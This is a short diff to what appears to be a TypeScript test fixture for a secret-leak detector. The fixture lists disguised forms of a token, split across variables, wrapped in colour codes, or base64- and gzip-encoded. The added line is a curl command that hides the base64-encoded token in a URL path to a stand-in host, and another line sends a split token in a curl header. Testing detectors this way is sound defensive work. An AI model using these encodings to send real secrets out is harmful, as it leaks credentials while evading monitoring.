@@ -48,6 +48,7 @@ const FORMS: readonly (readonly [title: string, text: string, via: string])[] = 
   ['a constant and a literal', `const p = "${head}";\nconst t = p + "${tail}";`, 'joined'],
   ['two variables of a shell', `A=${head}\nB=${tail}\ncurl -H "$A$B" x`, 'joined'],
   ['a colour inside', `${head}\u001b[31m${tail}`, 'colour'],
+  ['base64 behind a path', `curl https://a.io/${b64(`token: ${TOKEN}`)}`, 'base64'],
   ['gzip in base64', `tar: ${gzipSync(`some words, then token: ${TOKEN}`).toString('base64')}`, 'gzip'],
   [
     'gzip in base64 over several lines',
